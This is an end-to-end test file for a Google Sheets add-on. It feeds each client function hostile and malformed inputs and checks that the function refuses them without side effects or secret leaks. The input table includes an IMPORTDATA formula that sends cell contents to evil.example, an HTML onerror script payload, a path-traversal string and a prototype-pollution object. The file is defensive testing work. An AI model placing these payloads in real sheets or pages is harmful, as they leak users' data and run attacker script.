// test, e2e: every client function with invalid arguments returns a message and does nothing. The functions
// and the names of their fields are read from the add-on, so that new ones are covered.

import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'acorn';
import type { RunResult } from '../../workbench/apps-script/host';
import { addonFiles, openSession, type Session } from './session';

const ROOT = path.join(__dirname, '../..');

/** Every function that google.script.run can call. */
const FUNCTIONS = (() => {
  const { source } = addonFiles().find(({ name }) => name === 'Code.js')!;
  const { body } = parse(source, { ecmaVersion: 'latest' });
  return body.flatMap((node) => (node.type === 'FunctionDeclaration' ? [node.id.name] : []));
})();

/** Every field that an argument, an answer or a record has. */
const FIELDS = (() => {
  const schemas = readdirSync(path.join(ROOT, 'src'), { recursive: true, encoding: 'utf8' }).filter((file) =>
    /-(schema|schemas|view|record)\.ts$/.test(file),
  );
  const names = schemas.flatMap((file) =>
    [...readFileSync(path.join(ROOT, 'src', file), 'utf8').matchAll(/^ +(?:readonly )?(\w+)\??: /gm)].map(
      ([, name]) => name!,
    ),
  );
  return [...new Set(names)];
})();

const nested = (depth: number): unknown => (depth === 0 ? 'x' : { nested: nested(depth - 1) });

/** By name; `FOREIGN`: the ID of another person's connection. */
const VALUES: Readonly<Record<string, unknown>> = {
  nothing: undefined,
  null: null,
  'not a number': Number.NaN,
  'a huge number': 1e308,
  'a negative number': -1,
  'a fraction': 0.5,
  'an infinite number': Number.POSITIVE_INFINITY,
  true: true,
  'an empty text': '',
  'a text of 1 MB': 'x'.repeat(1_000_000),
  'spaces that never end': `$${' '.repeat(49_000)}x`,
  'a formula': '=IMPORTDATA("https://evil.example/?"&A1)',
  HTML: '<img src=x onerror="alert(1)">',
  'a path': '../../oauth/v1/access_token?x=1#',
  'control characters': 'a\u0000\r\n\u202e\ud800',
  __proto__: '__proto__',
  constructor: 'constructor',
  'a polluting object': JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  'an empty object': {},
  'an empty list': [],
  'a list of 100,000': Array.from({ length: 100_000 }, (_, i) => i),
  'lists in lists': [[[[[[[[[['x']]]]]]]]]],
  'a deep object': nested(500),
  "another person's connection": 'FOREIGN',
};

/** Answers that are not a refusal although the argument is invalid, and why they are harmless. */
const HARMLESS: Readonly<Record<string, string>> = {
  personCall: 'any text is a name that a person may give themselves',
  settingsSave: 'an object without settings changes none',
  creativesCancel: 'any name of an upload may be canceled, and only the uploads of its person have it',
  connectionRemove: 'what is not there is gone',
  checkFix: 'an empty list fixes nothing',
  cellHistory: 'it reads the selected cell, whatever the client knows of it',
  insightsMarks: 'an empty list has no marks',
  reviewResolve: 'an empty list decides nothing',
  reviewRevert: 'an empty list reverts nothing',
  undoRuns: 'any number is a length of the list',
  uploadEnd: 'an upload that is not there is over',
};

/**
 * Functions that read an object by its ID with the caller's own login. They accept any text, because IDs are
 * opaque.
 */
const READING = ['creativesLook'];

/** Called by Google itself: it returns a page, which no client gets. */
const PAGES = ['connectionAnswer'];

let session: Session;
let foreign = '';

beforeAll(async () => {
  session = await openSession({ service: { campaigns: 3, tidy: true } });
  await session.pull(['campaigns', 'targets']);
  // Several people connect, so that there are foreign connections.
  const { script } = session.host.state;
  const { BIDGRID_CLIENT_ID: clientId, BIDGRID_CLIENT_SECRET: clientSecret } = script;
  delete script.BIDGRID_CLIENT_ID;
  delete script.BIDGRID_CLIENT_SECRET;
  const form = {
    company: 'Harbour Games',
    party: 'first' as const,
    managementKey: '',
    scopes: ['campaigns:write' as const],
  };
  const login = { clientId: clientId!, clientSecret: clientSecret! };
  const others = await session.askAs('ben@example.com', 'connectionAdd', { ...form, ...login, name: 'Ben' });
  foreign = others.connections[0]!.id;
  await session.ask('connectionAdd', { ...form, ...login, name: 'Anna' });
  for (const name of ['personName', 'connectionList', 'undoRuns', 'uploadsOpen', 'reviewBuild'])
    await session.run(name);
}, 60_000);
afterAll(() => session.close());

interface Trace {
  readonly cells: string;
  readonly document: string;
  readonly script: string;
  readonly requests: number;
  readonly users: string;
}

function trace(): Trace {
  const { document, script, users } = session.host.state;
  const own = Object.fromEntries(
    Object.entries(users).map(([user, store]) => [user, { ...store, 'bidgrid.person-name': '' }]),
  );
  return {
    cells: session.sheets.everything(),
    document: JSON.stringify(document),
    script: JSON.stringify(script),
    users: JSON.stringify(own),
    requests: session.host.requests.length,
  };
}

const own = (value: unknown): unknown => (value === 'FOREIGN' ? foreign : value);

/** In every field, these would make messages of hundreds of megabytes. */
const LARGE = ['a text of 1 MB', 'a list of 100,000', 'spaces that never end', 'a deep object'];

const ARGUMENTS = [
  ...Object.entries(VALUES).map(([name, value]) => [name, () => own(value)] as const),
  ...Object.entries(VALUES)
    .filter(([name]) => !LARGE.includes(name))
    .map(
      ([name, value]) =>
        [
          `${name} in every field`,
          () => Object.fromEntries(FIELDS.map((field) => [field, own(value)])),
        ] as const,
    ),
];

/** For functions that take no argument. */
const FEW = ARGUMENTS.filter(([name]) =>
  /^(a text of 1 MB|a polluting object|a deep object|a formula)$/.test(name),
);

interface Failing {
  readonly error: { readonly sentence: string; readonly detail: string };
}

const isReply = (value: unknown): value is { ok: boolean } =>
  typeof value === 'object' && value !== null && 'ok' in value;

const MOST_CALLS = 150;

/** What a client must never get: logins, tokens and keys of any person. */
function secrets(): string[] {
  const { service, host } = session;
  const stores = [host.state.script, ...Object.values(host.state.users)];
  const kept = stores.flatMap((store) =>
    Object.entries(store).flatMap(([name, value]) => (/secret|token|key|refresh/i.test(name) ? [value] : [])),
  );
  return [
    ...kept,
    ...service.companies.flatMap(({ client_secret, api_key }) => [client_secret, api_key]),
  ].filter((secret) => secret.length >= 8);
}

const leaks = (result: RunResult): string => {
  const text = JSON.stringify(result) ?? '';
  return secrets().some((secret) => text.includes(secret)) ? 'a secret in the answer' : '';
};

/** What is wrong with the result of a call; `''`: nothing. */
function harmIn(result: RunResult, before: number, name: string): string {
  if (!result.ok) return `ended ${result.ended}: ${result.error?.message}`;
  if (result.totalCalls > MOST_CALLS) return `${result.totalCalls} calls`;
  if (!isReply(result.value)) return '';
  if (result.value.ok)
    return name in HARMLESS ? '' : `accepted: ${JSON.stringify(result.value).slice(0, 200)}`;
  const { sentence, detail } = (result.value as unknown as Failing).error;
  if (!/^[A-Z"].*[.?]$/s.test(sentence) || sentence.length > 600)
    return `no sentence: ${sentence.slice(0, 200)}`;
  if (/unexpected/.test(sentence)) return `an exception: ${detail.slice(0, 200)}`;
  const requests = session.host.requests.length - before;
  return requests === 0 || (requests === 1 && READING.includes(name)) ? '' : `${requests} requests`;
}

it('covers the functions of the add-on', () => {
  expect(FUNCTIONS.length).toBeGreaterThan(50);
  expect(FIELDS).toEqual(expect.arrayContaining(['token', 'tab', 'key', 'leaveOut', 'connection', 'id']));
  expect(Object.keys(VALUES).length).toBeGreaterThanOrEqual(20);
  expect(new Set(secrets()).size).toBeGreaterThanOrEqual(5);
});

it.each(FUNCTIONS.filter((name) => !PAGES.includes(name)))(
  '%s',
  async (name) => {
    // A function without arguments ignores them; the call must only not fail.
    const plain = await session.run(name, []);
    const ignores = !isReply(plain.value) || plain.value.ok;
    const harm: string[] = [];
    const before = ignores ? null : trace();
    for (const [what, argument] of ignores ? FEW : ARGUMENTS) {
      const value = argument();
      const requests = session.host.requests.length;
      const result = await session.run(name, [value, value]);
      const ended = result.ok ? '' : `ended ${result.ended}: ${result.error?.message}`;
      const found = leaks(result) || (ignores ? ended : harmIn(result, requests, name));
      if (found) harm.push(`${what}: ${found}`);
    }
    expect(harm).toEqual([]);
    if (!before) return;
    const { cells, document, script } = before;
    // Reading the service counts requests and updates the rate limit state.
    expect(trace()).toEqual(
      READING.includes(name) ? expect.objectContaining({ cells, document, script }) : before,
    );
  },
  120_000,
);
